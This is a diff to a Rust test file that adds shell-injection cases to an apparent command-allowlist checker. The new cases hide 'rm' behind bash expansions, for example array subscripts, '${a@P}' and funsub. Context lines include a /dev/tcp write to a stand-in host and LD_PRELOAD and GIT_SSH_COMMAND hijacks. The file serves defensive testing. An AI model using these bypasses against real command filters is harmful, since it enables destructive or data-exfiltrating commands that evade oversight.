@@ -81,6 +81,17 @@ const HIDDEN: &[&str] = &[
     "! rm a",
     "case a in a) rm b;; esac",
     "A=$(rm a) ls",
+    "/bin/rm a",
+    "RM a",
+    "exec rm a",
+    "time -- rm a",
+    "!(rm a)",
+    r"echo \$'a\'; rm x; echo \$'b\'",
+    "a='b[$(rm a)]'; echo $((a))",
+    "[[ -v 'b[$(rm a)]' ]] && ls",
+    "a='$(rm a)'; echo ${a@P}",
+    "find . $X",
+    "echo \"${ rm a; }\"",
 ];
 
 #[test]
@@ -106,6 +117,8 @@ fn allowed_programs_run_and_nothing_hides_behind_them() {
         "echo x > /dev/tcp/evil.example/80",
         // What changes what allowed programs do.
         "PATH=/tmp ls",
+        "path=/tmp ls",
+        "RANDOM='a[$(rm a)]'; ls",
         "LD_PRELOAD=./x.so ls",
         "GIT_SSH_COMMAND=x git fetch",
         "git -c core.pager=x log",
